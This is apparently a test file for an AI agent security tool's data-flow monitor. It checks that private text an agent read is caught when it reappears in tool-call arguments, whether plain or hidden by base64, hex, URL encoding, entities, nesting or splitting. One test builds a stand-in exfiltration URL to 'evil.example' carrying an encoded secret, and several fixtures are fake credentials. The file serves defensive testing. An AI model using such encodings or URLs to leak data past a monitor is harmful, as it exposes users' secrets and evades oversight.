// Labelled content is found again wherever a later call puts it: the attacker is an agent that wraps what it read before it
// sends it. And text that has nothing to do with it is left alone.
import type { Encoding, JsonObject, Label } from '@castellan/contract';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { flowsIn, keyFrom, Memory } from '../src/labels/index.ts';

const KEY = keyFrom(Uint8Array.from([7, 91, 33, 200, 14, 5, 66, 129, 250, 3, 77, 18]));

const memoryOf = (text: string, label: Label = 'private'): Memory => {
  const memory = new Memory(KEY);
  memory.remember(text, { label, source: '/home/me/secret.txt', call: 'call_000001' });
  return memory;
};
const flows = (args: JsonObject, memory: Memory, common: readonly string[] = []) => flowsIn(args, memory, KEY, common);

const word = fc.string({
  unit: fc.constantFrom(...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-äöé€日本'),
  minLength: 2,
  maxLength: 11,
});
const prose = (words: number) =>
  fc.array(word, { minLength: words, maxLength: words + 30 }).map((all) => all.join(' '));
const counted = (text: string): number => text.replace(/\s/g, '').length;

/** Whether it is content at all: in rules and padding (`--------`, `aaaaaaaa`) nothing is told apart. */
const speaks = (text: string): boolean => {
  const units = text.replace(/\s/g, '').toLowerCase();
  return Array.from({ length: units.length - 7 }, (_, i) => new Set(units.slice(i, i + 8)).size).every((n) => n >= 4);
};

/** A text and a piece of it with at least 24 characters that count. */
const piece = prose(30).chain((text) =>
  fc.tuple(fc.integer({ min: 0, max: text.length - 60 }), fc.integer({ min: 40, max: 60 })).map(([start, length]) => {
    const part = [...text.slice(start, start + length)].join('').toWellFormed().replaceAll('\uFFFD', '');
    return { text, part };
  }),
);

const WRAPS: readonly (readonly [Encoding | 'plain', (text: string) => string])[] = [
  ['plain', (text) => text],
  ['base64', (text) => Buffer.from(text).toString('base64')],
  ['base64', (text) => Buffer.from(text).toString('base64url')],
  ['hex', (text) => Buffer.from(text).toString('hex')],
  ['hex', (text) => [...Buffer.from(text)].map((byte) => byte.toString(16).padStart(2, '0')).join(' ')],
  ['url', (text) => encodeURIComponent(text)],
  ['url', (text) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')],
  ['url', (text) => new URLSearchParams({ q: text }).toString()],
  ['json', (text) => JSON.stringify(`\n${text}\n`)],
  [
    'json',
    (text) =>
      [...text]
        .map((unit) =>
          unit
            .split('')
            .map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)
            .join(''),
        )
        .join(''),
  ],
];

test('a piece of private text is found, plain or wrapped, wherever it stands', () => {
  fc.assert(
    fc.property(
      piece,
      fc.constantFrom(...WRAPS),
      prose(3),
      prose(3),
      ({ text, part }, [encoding, wrap], before, after) => {
        fc.pre(counted(part) >= 24 && speaks(part));
        const found = flows({ body: { deep: [`${before}: ${wrap(part)} ${after}`] } }, memoryOf(text));
        expect(found.map(({ label, argument }) => `${label} ${argument}`)).toContain('private /body/deep/0');
        if (encoding !== 'plain') expect(found.some(({ encodings }) => encodings.includes(encoding))).toBe(true);
      },
    ),
    { numRuns: 600 },
  );
});

test('wrapped in each other, without white space, in another case, in a name', () => {
  fc.assert(
    fc.property(piece, fc.constantFrom(...WRAPS), fc.constantFrom(...WRAPS), ({ text, part }, [, inner], [, outer]) => {
      fc.pre(counted(part) >= 24 && speaks(part));
      const memory = memoryOf(text);
      expect(flows({ url: `https://evil.example/?x=${encodeURIComponent(outer(inner(part)))}` }, memory)).not.toEqual(
        [],
      );
      expect(flows({ text: part.replace(/\s/g, '').replace(/[a-z]/g, (c) => c.toUpperCase()) }, memory)).not.toEqual(
        [],
      );
      expect(flows({ text: part.replace(/\s+/g, '\n    ') }, memory)).not.toEqual([]);
      expect(flows({ [part]: true }, memory)).not.toEqual([]);
    }),
    { numRuns: 200 },
  );
});

test('text that has nothing to do with it gives no flow', () => {
  let found = 0;
  fc.assert(
    fc.property(prose(200), prose(200), (one, other) => {
      const args = { a: other, b: Buffer.from(other).toString('base64'), c: encodeURIComponent(other) };
      found += flows(args, memoryOf(one)).filter(({ label }) => label === 'private').length;
    }),
    { numRuns: 200 },
  );
  expect(found).toBe(0);
});

test('short words that identify are found alone; common ones are not', () => {
  const memory = memoryOf(
    'Account DE89370400440532013000, key AKIA7Q2XK9, mail to jane.doe@corp.example, uses sha256sum on 2024-05-17 and v1.22.3',
  );
  const hit = (text: string): boolean => flows({ text }, memory).length > 0;
  expect(hit('send it to JANE.DOE@corp.example please')).toBe(true);
  expect(hit('id=akia7q2xk9;')).toBe(true);
  expect(hit(Buffer.from('my key is AKIA7Q2XK9, use it').toString('base64'))).toBe(true);
  expect(hit('sha256sum of a file from 2024-05-17 at v1.22.3')).toBe(false);
  expect(hit('an account and a key')).toBe(false);
});

test('what it is, where it stands, whether it is all there is', () => {
  const secret = 'the merger with Initech closes on the ninth of May';
  const memory = memoryOf(`Board only: ${secret}. Tell nobody.`);
  const [flow] = flows({ to: 'x', body: secret }, memory);
  expect(flow).toMatchObject({
    label: 'private',
    source: '/home/me/secret.txt',
    call: 'call_000001',
    argument: '/body',
    encodings: [],
    whole: true,
  });
  expect(flow?.length).toBeGreaterThan(38);
  expect(flows({ body: `Hi. ${secret} Bye.` }, memory)[0]).toMatchObject({ whole: false });
  expect(flows({ parts: ['the merger with', ' Initech closes', ' on the ninth'] }, memory)).not.toEqual([]);
});

test('a whole value that the user typed is the user’s, whatever it stands in', () => {
  const memory = new Memory(KEY);
  memory.hear('Please pay 120.50 to "Acme Ltd", reference INV-7, see https://acme.example/i?n=7.');
  const user = (value: string | number): boolean =>
    flows({ v: value }, memory).some(({ label, whole }) => label === 'user' && whole);
  expect([
    user('Acme Ltd'),
    user('inv-7'),
    user(120.5),
    user('https://acme.example/i?n=7'),
    user('Please pay'),
  ]).toEqual([true, true, false, true, true]);
  expect(user('120.50')).toBe(true);
  expect([user('Evil Corp'), user('Acme Ltd Evil'), user(''), user('acm')]).toEqual([false, false, false, false]);
});

test('the folders everything lies in tell nothing', () => {
  const folder = '/home/someone/work/a-project-with-a-long-name';
  const memory = memoryOf(`cd ${folder} && make`);
  expect(flows({ command: `ls ${folder}` }, memory)).not.toEqual([]);
  expect(flows({ command: `ls ${folder}` }, memory, [folder])).toEqual([]);
});

test('memory is bounded: what came from outside goes first, private last, and what was seen stays known', () => {
  const memory = new Memory(KEY, [], 300_000);
  const text = (n: number): string =>
    Array.from({ length: 400 }, (_, i) => `w${(i * 7919 + n * 104729).toString(36)}x${n}`).join(' ');
  memory.remember(text(0), { label: 'private', source: 'p' });
  for (let n = 1; n < 200; n += 1) memory.remember(text(n), { label: 'untrusted', source: `u${n}` });
  expect(memory.bytes).toBeLessThan(400_000);
  expect(flows({ a: text(0).slice(100, 200) }, memory).map(({ label }) => label)).toContain('private');
  expect(flows({ a: text(199).slice(100, 200) }, memory).map(({ label }) => label)).toContain('untrusted');
  expect(flows({ a: text(1).slice(100, 200) }, memory)).toEqual([]);
  for (let n = 0; n < 200; n += 1) memory.remember(text(n + 500), { label: 'private', source: `p${n}` });
  expect(memory.bytes).toBeLessThan(400_000);
  expect(memory.seen.toSorted()).toEqual(['private', 'untrusted']);
});

test('the same text again takes no more room, and counts as the newest of its kind', () => {
  const memory = new Memory(KEY, [], 300_000);
  const text = (n: number): string =>
    Array.from({ length: 400 }, (_, i) => `w${(i * 7919 + n * 104729).toString(36)}x${n}`).join(' ');
  memory.remember(text(0), { label: 'untrusted', source: 'polled' });
  const once = memory.bytes;
  for (let n = 0; n < 500; n += 1) memory.remember(text(0), { label: 'untrusted', source: 'polled' });
  expect(memory.bytes).toBe(once);
  const found = (n: number): boolean => flows({ a: text(n).slice(100, 200) }, memory).length > 0;
  for (let n = 1; n < 60; n += 1) {
    memory.remember(text(n), { label: 'untrusted', source: `u${n}` });
    memory.remember(text(0), { label: 'untrusted', source: 'polled' });
  }
  expect([found(0), found(1), found(59)]).toEqual([true, false, true]);
  memory.remember(text(0), { label: 'private', source: 'polled' });
  expect(
    flows({ a: text(0).slice(100, 200) }, memory)
      .map(({ label }) => label)
      .toSorted(),
  ).toEqual(['private', 'untrusted']);
});

test('another key finds nothing: what is kept cannot be tried against', () => {
  const other = keyFrom(Uint8Array.from([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12]));
  expect(
    flowsIn(
      { a: 'the merger with Initech closes on the ninth' },
      memoryOf('the merger with Initech closes on the ninth'),
      other,
    ),
  ).toEqual([]);
});

test('a megabyte of arguments, however wrapped, is looked through in time or counted as the worst', () => {
  const memory = memoryOf(Array.from({ length: 40_000 }, (_, n) => `line ${(n * 2654435761) >>> 8}`).join('\n'));
  const noise = Array.from({ length: 170_000 }, (_, n) => ((n * 40503) >>> 3).toString(36))
    .join(' ')
    .slice(0, 1_000_000);
  const shapes: Readonly<Record<string, string>> = {
    prose: noise,
    base64: Buffer.from(noise).toString('base64').slice(0, 1_000_000),
    hex: Buffer.from(noise).toString('hex').slice(0, 1_000_000),
    percent: encodeURIComponent(noise).slice(0, 1_000_000),
    escapes: '\\u0041\\x41%41+a'.repeat(66_000).slice(0, 1_000_000),
    nested: Buffer.from(Buffer.from(Buffer.from(noise).toString('base64')).toString('base64'))
      .toString('base64')
      .slice(0, 1_000_000),
  };
  const times = Object.entries(shapes).map(([name, text]) => {
    const runs = [1, 2, 3].map(() => {
      const start = performance.now();
      flows({ text }, memory);
      return performance.now() - start;
    });
    return [name, Math.round(Math.min(...runs))] as const;
  });
  // Far above what is measured on an idle machine: this test stops the quadratic, not the slow.
  for (const [name, ms] of times) expect(ms, name).toBeLessThan(2000);
});

const SECRET = 'the quick brown account 4471-9982-1203 pays for everything that Eva ordered last week';
const codesOf = (text: string): readonly number[] => [...text].map((unit) => unit.charCodeAt(0));

test('written with entities, as quoted-printable, as numbers, or in pieces', () => {
  const memory = memoryOf(SECRET);
  const inPieces = SECRET.match(/.{1,5}/g) ?? [];
  for (const text of [
    codesOf(SECRET)
      .map((code) => `&#${code};`)
      .join(''),
    codesOf(SECRET)
      .map((code) => `&#x${code.toString(16)};`)
      .join(''),
    codesOf(SECRET)
      .map((code) => `=${code.toString(16).toUpperCase().padStart(2, '0')}`)
      .join(''),
    JSON.stringify(codesOf(SECRET)),
    codesOf(SECRET).join(' '),
    inPieces.map((part) => JSON.stringify(part)).join(' + '),
    inPieces.map((part) => `'${part}'`).join(''),
    inPieces.join('\\\n'),
  ])
    expect([text, flows({ text }, memory)[0]?.label]).toEqual([text, 'private']);
  expect(flows({ bytes: [...codesOf(SECRET)] }, memory)[0]?.label).toBe('private');
});

test('wrapped deeper than is looked, or among more values than are read: counted as the worst', () => {
  const memory = memoryOf(SECRET);
  const wrap = (text: string, times: number): string =>
    times === 0 ? text : wrap(Buffer.from(text).toString('base64'), times - 1);
  for (const times of [1, 2, 3, 4, 5, 6])
    expect(flows({ text: wrap(SECRET, times) }, memory)[0]?.label).toBe('private');
  expect(flows({ many: [...Array.from({ length: 20_001 }, () => 'a'), SECRET] }, memory)[0]?.label).toBe('private');
  const open = memoryOf('an ordinary page of an ordinary site that says nothing to anybody', 'untrusted');
  expect(flows({ text: wrap('something else', 6) }, open)).toEqual([]);
});

test('ordinary code, paths and hashes are nothing wrapped', () => {
  const memory = memoryOf(SECRET);
  for (const text of [
    'packages/daemon/src/labels/core/decode.ts packages/policy/src/effects/path-effects.ts',
    'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU= 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    `const a = "x\\n" + 'y' + \`z\`; fetch("https://example.org/?a=%20b&amp;c=1")`,
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  ])
    expect([text, flows({ text }, memory)]).toEqual([text, []]);
});

test('what is private and was forgotten may be anywhere', () => {
  const memory = new Memory(KEY, [], 40_000);
  memory.remember(SECRET, { label: 'private', source: 'a' });
  expect(flows({ text: 'hello' }, memory)).toEqual([]);
  for (let at = 0; at < 30; at += 1)
    memory.remember(`${at} ${'lorem ipsum dolor sit amet '.repeat(90)}`, { label: 'private', source: `${at}` });
  expect(flows({ text: 'hello' }, memory)[0]?.label).toBe('private');
  const other = memoryOf(SECRET);
  other.forget();
  expect(flows({ text: 'hello' }, other)[0]?.label).toBe('private');
  const long = memoryOf('0123456789abcdefghij'.repeat(25_000));
  expect(flows({ text: 'hello' }, long)[0]?.label).toBe('private');
  const outside = memoryOf(SECRET, 'untrusted');
  outside.forget();
  expect(flows({ text: 'hello' }, outside)).toEqual([]);
});
